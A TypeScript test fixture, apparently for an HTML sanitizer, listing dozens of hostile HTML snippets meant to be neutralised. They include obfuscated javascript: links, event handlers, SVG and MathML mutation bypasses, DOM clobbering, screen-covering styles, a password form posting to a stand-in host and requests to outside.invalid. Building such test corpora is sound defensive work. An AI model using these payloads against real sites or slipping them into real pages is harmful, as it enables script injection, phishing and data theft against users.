/** Hostile articles, one per line: every way we know to run code, to send requests to another host, to cover the screen, or to display
 * something outside the article. No article may cause a call of `pwned(…)` or a request to `OUTSIDE`. */

/** A host that does not exist. */
export const OUTSIDE = 'http://outside.invalid'

/** A picture of one pixel. */
const PIXEL = 'data:image/gif;base64,R0lGODlhAQABAIAAAAAAAP///yH5BAEAAAAALAAAAAABAAEAAAIBRAA7'
const SVG_PICTURE = `data:image/svg+xml;base64,${Buffer.from('<svg xmlns="http://www.w3.org/2000/svg" onload="pwned(1)"><script>pwned(2)</script></svg>').toString('base64')}`
const COVER = 'position:fixed;top:0;left:0;width:100vw;height:100vh;z-index:2147483647;background:red'

/** Articles with an element that is left open on purpose: every browser puts the text that follows into that element. */
export const LEFT_OPEN = ['a noscript that hides', 'MathML that turns into HTML', 'MathML and SVG in turns']

/** The HTML of each article by name. A readable paragraph is put before and after each. */
export const HOSTILE: Readonly<Record<string, string>> = {
  'a script': `<script>pwned('script')</script><script src="${OUTSIDE}/a.js"></script><scr<script>ipt>pwned('nested')</scr</script>ipt>`,
  'a script in other letters':
    '<ScRiPt type=module>pwned("case")</sCrIpT><script\n>pwned("line")</script\t><script/x>pwned("slash")</script>',
  'event handlers':
    '<img src=x onerror=pwned("img")><b onclick=pwned(1) onmouseover="pwned(2)" onfocus=pwned(3) tabindex=0 autofocus>b</b><p onpointerenter=pwned(4) oNcLiCk=pwned(5)>p</p>',
  'event handlers that need no hand':
    '<details open ontoggle=pwned(1)><summary>s</summary></details><marquee onstart=pwned(2)>m</marquee><video onloadstart=pwned(3) src=x></video><p style="animation:x" onanimationstart=pwned(4)>p</p><body onload=pwned(5)>',
  'handlers without blanks':
    '<img/src=x/onerror=pwned(1)><img src="x"onerror="pwned(2)"><img src=`x`onerror=pwned(3)><a href="x"/onclick=pwned(4)>a</a><img """><script>pwned(5)</script>">',
  'javascript: in a link':
    '<a href="javascript:pwned(1)">one</a><a href=" javascript:pwned(2)">two</a><a href="JaVaScRiPt:pwned(3)">three</a>',
  'javascript: in pieces':
    '<a href="java\tscript:pwned(1)">1</a><a href="java\nscript:pwned(2)">2</a><a href="java&#10;script:pwned(3)">3</a><a href="&#x6A;avascript:pwned(4)">4</a><a href="javascript&colon;pwned(5)">5</a><a href="\u0001javascript:pwned(6)">6</a><a href="java&NewLine;script&#58;pwned(7)">7</a>',
  'other schemes':
    '<a href="vbscript:pwned(1)">1</a><a href="data:text/html,<script>pwned(2)</script>">2</a><a href="blob:null/1">3</a><a href="file:///etc/passwd">4</a><a href="intent://x#Intent;end">5</a><a href="view-source:x">6</a><a href="feed:javascript:pwned(7)">7</a>',
  'javascript: in pictures':
    '<img src="javascript:pwned(1)"><img dynsrc="javascript:pwned(2)"><img lowsrc="javascript:pwned(3)"><input type=image src="javascript:pwned(4)"><table background="javascript:pwned(5)"><tr><td background="javascript:pwned(6)">t</td></tr></table>',
  'an SVG':
    '<svg onload=pwned(1)><script>pwned(2)</script><animate onbegin=pwned(3) attributeName=x dur=1s /><a xlink:href="javascript:pwned(4)"><text y=20>t</text></a><image href="x" onerror=pwned(5) /></svg>',
  'an SVG that brings HTML':
    '<svg><foreignObject><iframe srcdoc="<script>parent.pwned(1)</script>"></iframe><img src=x onerror=pwned(2)></foreignObject></svg>',
  'an SVG that uses another': `<svg><use href="data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><script>pwned(1)</script></svg>#x" /><use xlink:href="${OUTSIDE}/x.svg#y" /><set attributeName=href to="javascript:pwned(2)" /></svg>`,
  MathML:
    '<math><maction actiontype="statusline#" xlink:href="javascript:pwned(1)">m</maction><mtext><img src=x onerror=pwned(2)></mtext><annotation-xml encoding="text/html"><script>pwned(3)</script></annotation-xml></math>',
  'MathML that turns into HTML':
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=pwned(1)&gt;">',
  'MathML and SVG in turns':
    '<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror=pwned(1) src>"></form>',
  'a style that hides': '<svg></p><style><a id="</style><img src=1 onerror=pwned(1)>">',
  'a noscript that hides': '<noscript><p title="</noscript><img src=x onerror=pwned(1)>"></noscript>',
  'raw text that hides':
    '<noembed><img title="</noembed><img src=x onerror=pwned(2)>"></noembed><xmp><p title="</xmp><img src=x onerror=pwned(3)>"></xmp>',
  'a comment that hides':
    '<!--><img src=x onerror=pwned(1)>--><!--!><img src=x onerror=pwned(2)><!-- --!><img src=x onerror=pwned(3)> --><![CDATA[<img src=x onerror=pwned(4)>]]><?xml-stylesheet href="javascript:pwned(5)"?><!DOCTYPE x [<!ENTITY a "b">]>',
  'a template':
    '<template><img src=x onerror=pwned(1)><script>pwned(2)</script></template><div><template shadowrootmode=open><script>pwned(3)</script><style>:host{position:fixed;inset:0;background:red}</style><slot></slot></template>d</div>',
  'a textarea and a title that hide':
    '<textarea><img title="</textarea><img src=x onerror=pwned(1)>"></textarea><title><img src=x onerror=pwned(2)></title><select><option><img src=x onerror=pwned(3)></option><style></select><img src=x onerror=pwned(4)></style></select>',
  frames: `<iframe src="javascript:parent.pwned(1)"></iframe><iframe srcdoc="<script>parent.pwned(2)</script>"></iframe><iframe src="${OUTSIDE}/f"></iframe><frameset><frame src="${OUTSIDE}/g"></frameset><object data="${OUTSIDE}/o"></object><embed src="${OUTSIDE}/e"><portal src="${OUTSIDE}/p"></portal><applet code=x></applet>`,
  'a base': `<base href="${OUTSIDE}/"><base target="_top"><img src="images/relative.png"><a href="relative">relative</a>`,
  'a refresh': `<meta http-equiv=refresh content="0;url=${OUTSIDE}/m"><meta http-equiv="Content-Security-Policy" content="script-src *"><meta charset=utf-7>+ADw-script+AD4-pwned(1)+ADw-/script+AD4-`,
  'links of a head': `<link rel=stylesheet href="${OUTSIDE}/s.css"><link rel=preload as=image href="${OUTSIDE}/l.png"><link rel=prefetch href="${OUTSIDE}/pre"><link rel=dns-prefetch href="//outside.invalid"><link rel=icon href="${OUTSIDE}/i.ico">`,
  'a style sheet': `<style>@import url(${OUTSIDE}/i.css);*{display:none!important}body{background:url(${OUTSIDE}/b.png)}</style><style>:host{display:none}</style>`,
  'styles that ask outside': `<p style="background:url(${OUTSIDE}/b.png)">b</p><ul style="list-style:url('${OUTSIDE}/l.png')"><li>l</li></ul><p style="width:expression(pwned(1));behavior:url(${OUTSIDE}/h.htc);-moz-binding:url(${OUTSIDE}/x.xml#a)">e</p><p style="text-align:url(${OUTSIDE}/t);color:red\\;background:url(${OUTSIDE}/c)">t</p>`,
  'styles that cover': `<div style="${COVER}">cover</div><a href="${OUTSIDE}/phish" style="${COVER};opacity:0">cover</a><p style="position:absolute;inset:0;transform:scale(99)">p</p><p style="margin:-9999px;font-size:900px">m</p><p style="text-align:center;position:sticky;top:0;height:100vh">s</p>`,
  'styles that hide':
    '<p style="color:transparent">1</p><p style="display:none">2</p><p style="font-size:0">3</p><p style="opacity:0">4</p><font color=white size=7>5</font><p hidden>6</p><p class="hidden overlay">7</p>',
  forms: `<form action="${OUTSIDE}/f" method=post><input name=phone autofocus><input type=password><button formaction="javascript:pwned(1)">Log in</button><button type=submit>go</button><keygen><select><option>o</option></select><label>l</label></form><isindex action="javascript:pwned(2)">`,
  'names that take the document’s place':
    '<form name=body></form><img name=getElementById><img id=location><a id=defaultView><a id=defaultView name=x href="x"></a><form id=parkside><input name=attributes><input name=parentNode></form><img name=cookie><a id=__proto__>p</a><iframe name=self></iframe>',
  'a form that hides its own parts':
    '<form onclick=pwned(1)><input name=attributes><input name=nodeName><input name=childNodes><input name=removeChild>f</form><form><input id=innerHTML onfocus=pwned(2) autofocus></form>',
  'srcset and sources': `<img srcset="${OUTSIDE}/1.png 1x, ${OUTSIDE}/2.png 2x" sizes=100vw><picture><source srcset="${OUTSIDE}/3.png"></picture><video poster="${OUTSIDE}/4.png"><source src="${OUTSIDE}/5.mp4"><track src="${OUTSIDE}/6.vtt"></video><audio src="${OUTSIDE}/7.mp3" autoplay></audio><img usemap="#m"><map name=m><area href="javascript:pwned(1)" shape=default></map>`,
  'documents as data': `<a href="data:text/html;base64,PHNjcmlwdD5wd25lZCgxKTwvc2NyaXB0Pg==">1</a><img src="${SVG_PICTURE}"><img src="data:text/html,<script>pwned(2)</script>"><img src="data:image/gif,<svg onload=pwned(3)>"><img src="data:image/png;base64,AAAA" onerror=pwned(4)><img src="${PIXEL}" alt="A pixel">`,
  'entities and unicode':
    '&lt;script&gt;pwned(1)&lt;/script&gt;<a href="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058pwned(2)">e</a>\u202Eturned round\u202C\u0000<img\u000Csrc=x\u000Conerror=pwned(3)>＜script＞pwned(4)＜/script＞<ſcript>pwned(5)</ſcript>',
  'broken markup':
    '<p><b><i>one</p>two</b><table><p>in the table</p><tr><td>cell<td>cell<tr><b>three</table></i></div></section></body></html><img src=x onerror=pwned(1) <p>four<a href="<b">five</a',
  'elements of its own':
    '<park-app route="/login"></park-app><park-forklift></park-forklift><x-y is=z onclick=pwned(1)>y</x-y><div data-park-widget="forklift" data-route="/login" data-picture="0" data-table slot=s part=p>w</div><dialog open>d</dialog><menu popover id=q>m</menu>',
  'attributes with names of their own':
    '<p xmlns:x="http://www.w3.org/1999/xlink" x:href="javascript:pwned(1)" xml:base="javascript:pwned(2)//" contenteditable accesskey=x draggable=true role=alert aria-live=assertive dir=rtl lang=ar>مرحبا</p><a xlink:href="javascript:pwned(3)" ping="http://outside.invalid/ping" target=_top download href="/files/a.pdf">file</a>',
  'tables in tables': `<table width=9999 border=9 style="position:fixed">${'<tr><td><table><tr><td>'.repeat(30)}deep${'</td></tr></table></td></tr>'.repeat(30)}</table><table><caption onclick=pwned(1)>Wide</caption><tr>${'<td>a cell of some width</td>'.repeat(20)}</tr></table>`,
  'a thousand levels': `${'<div><b>'.repeat(1000)}<img src=x onerror=pwned(1)>${'</b></div>'.repeat(1000)}${'<blockquote>'.repeat(300)}`,
  'one word without an end': `<p>${'W'.repeat(3000)}</p><h1>${'长'.repeat(300)}</h1><p><a href="https://park.example/${'x'.repeat(900)}">${'https://park.example/'.repeat(40)}</a></p><pre>${'code '.repeat(300)}</pre>`,
  'a megabyte': Array.from(
    { length: 6000 },
    (_, n) =>
      `<p style="color:#123;text-align:justify" class="MsoNormal" onclick="pwned(${n})">Paragraph ${n} of a long <b>report</b> with <a href="javascript:pwned(1)">a link</a>${n % 50 ? '' : '<script>pwned(2)</script>'}, 以及一些中文内容。</p>`,
  ).join(''),
}
